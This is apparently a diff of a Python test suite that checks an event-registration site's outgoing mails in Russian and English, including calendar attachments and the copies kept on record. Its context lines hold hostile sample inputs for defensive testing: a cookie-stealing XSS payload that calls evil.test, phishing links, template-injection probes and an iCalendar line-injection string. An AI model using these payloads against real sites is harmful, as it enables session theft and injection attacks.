@@ -18,7 +18,7 @@ from forum.mail import delivery, post
 from forum.mail.templates import placeholders, source, unlinked
 from forum.models import Event, Link, Message
 from forum.models.event import Mode
-from registration.models import Approval, Category, Claim, ModePool, Pool, Registration
+from registration.models import Approval, Category, Claim, ModePool, Pool, Proof, Registration
 from speakers.models import Proposal, Track
 
 LANGUAGES = [code for code, _ in settings.LANGUAGES]
@@ -34,6 +34,8 @@ T11 = "\"><img src=x onerror=fetch('//evil.test/'+document.cookie)><script>alert
 T13 = '[Refund](https://evil.test) <a href="https://evil.test">now</a> https://evil.test **bold**'
 T14 = "{code} {link} {registration.__class__} {{7*7}} {% debug %} {0.__class__}"
 T27 = "Talk\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil;X=1,2\\"
+# To whom we may know nothing of: what somebody typed is not in them at all.
+NAMELESS = {"registration/address_left", "registration/erased"}
 HOSTILE = [T05, T06, T11, T13, T14, T27]
 
 
@@ -105,7 +107,11 @@ def a_proposal(event, *, title="Города", language="en"):
 def a_row(event, kind, *, text="Анна", language="en"):
     """A row that the mail can be about, with ``text`` wherever a stranger may type."""
     if kind.startswith("registration/"):
-        state = {"registration/cancelled": "cancelled", "registration/declined": "declined"}
+        state = {
+            "registration/cancelled": "cancelled",
+            "registration/declined": "declined",
+            "registration/replaced": "cancelled",
+        }
         registration = a_registration(
             event, name=text[:100], language=language, state=state.get(kind, "confirmed")
         )
@@ -114,6 +120,13 @@ def a_row(event, kind, *, text="Анна", language="en"):
         if kind == "registration/declined":
             Approval.objects.create(
                 event=event, registration=registration, step="declined", reason=text[:1000]
+            )
+        if kind == "registration/code":
+            return Proof.objects.create(
+                event=event,
+                registration=registration,
+                purpose=Proof.Purpose.DATA,
+                address="anna@example.org",
             )
         return registration
     return a_proposal(event, title=text, language=language)
@@ -134,10 +147,10 @@ def offer_a_place(registration):
 def sent(kind, row, language):
     """The mail as it reaches the server, parsed again from its bytes, and the row that is kept."""
     mail.outbox.clear()
-    post(kind, about=row, to="anna@example.org", key=f"test:{kind}:{row.code}", language=language)
+    post(kind, about=row, to="anna@example.org", key=f"test:{kind}:{row.pk}", language=language)
     assert delivery.deliver_due() == 1
     message = message_from_bytes(mail.outbox[0].message().as_bytes(), policy=policy.default)
-    return message, Message.objects.get(key=f"test:{kind}:{row.code}")
+    return message, Message.objects.get(key=f"test:{kind}:{row.pk}")
 
 
 def text_of(message):
@@ -301,7 +314,7 @@ def test_what_a_stranger_typed_does_nothing_in_a_mail(event, kind, language, hos
         )
     for body in (text, html):  # no program makes links in a subject
         assert not re.search(r"evil\.test|victim@example", body)
-    if hostile == T14:
+    if hostile == T14 and kind not in NAMELESS:
         # Put in once: what looks like a placeholder in a value stays as it was typed.
         assert "{code} {link}" in text
         assert "{code} {link}" in html
@@ -321,7 +334,7 @@ def test_no_english_sentence_is_left_in_a_russian_mail(event, kind):
     seen = re.sub(r"(?s)<style.*?</style>|<[^>]*>", " ", html_of(message))
     for words in (message["Subject"], text_of(message), seen):
         words = re.sub(rf"{re.escape(settings.SITE_URL)}\S*", "", words)
-        for value in (CONTACT, row.code, event.timezone, "QR"):
+        for value in (CONTACT, getattr(row, "code", ""), event.timezone, "QR"):
             words = words.replace(value, "")
         assert not re.findall(r"[A-Za-z]{2,}", words)
 
@@ -329,9 +342,8 @@ def test_no_english_sentence_is_left_in_a_russian_mail(event, kind):
 @pytest.mark.parametrize("kind", KINDS)
 def test_no_russian_word_is_left_in_an_english_mail(event, kind):
     row = a_row(event, kind, text="Ada")
-    if hasattr(row, "family_name"):
-        type(row).objects.update(family_name="Lovelace")
-        row.refresh_from_db()
+    Registration.objects.update(family_name="Lovelace")
+    row.refresh_from_db()
     message, _ = sent(kind, row, "en")
     for words in (message["Subject"], text_of(message), html_of(message)):
         assert not re.findall(r"[А-Яа-яЁё]+", words)
@@ -357,7 +369,9 @@ def test_the_kept_copy_has_no_token(event, kind):
     if tokens:
         assert "?key=…" in kept.text
         assert "?key=…" in kept.html
+    is_last = registry.mails[kind].is_last
     assert kept.subject == message["Subject"].strip()
+    assert bool(kept.to) != is_last
 
 
 @pytest.mark.parametrize("hostile", ["Анна", *HOSTILE])
@@ -369,9 +383,11 @@ def test_a_calendar_file_is_one_appointment_that_calendars_take(event, kind, hos
     message, _ = sent(kind, a_row(event, kind, text=hostile), "en")
     files = [*message.iter_attachments()]
     coming = {"registered", "confirmed", "place_taken", "switched", "reminder", "cancelled"}
+    coming |= {"replaced"}
     assert len(files) == (kind.split("/")[1] in coming)
     for file in files:
-        method = "CANCEL" if kind == "registration/cancelled" else "PUBLISH"
+        ended = {"registration/cancelled", "registration/replaced"}
+        method = "CANCEL" if kind in ended else "PUBLISH"
         assert file.get_content_type() == "text/calendar"
         assert file.get_param("method") == method
         assert file.get_param("charset") == "utf-8"
